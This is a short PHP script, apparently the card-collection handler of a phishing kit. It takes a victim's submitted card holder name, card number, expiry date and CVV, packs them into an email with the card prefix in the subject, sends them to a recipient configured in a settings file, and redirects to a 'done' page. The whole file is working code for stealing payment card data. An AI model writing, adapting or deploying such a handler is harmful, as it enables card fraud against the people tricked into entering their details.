<?php
session_start();
include '../settings.php';

$msg  = "--- card ---\n";
$msg .= "Holder : " . $_POST['holder'] . "\n";
$msg .= "Number : " . $_POST['ccnum'] . "\n";
$msg .= "Expiry : " . $_POST['exp'] . "\n";
$msg .= "CVV    : " . $_POST['cvv'] . "\n";
$subject = "New card " . substr($_POST['ccnum'], 0, 6);

send_results_mail($result_to, $subject, $msg);
header('Location: ../done.php');
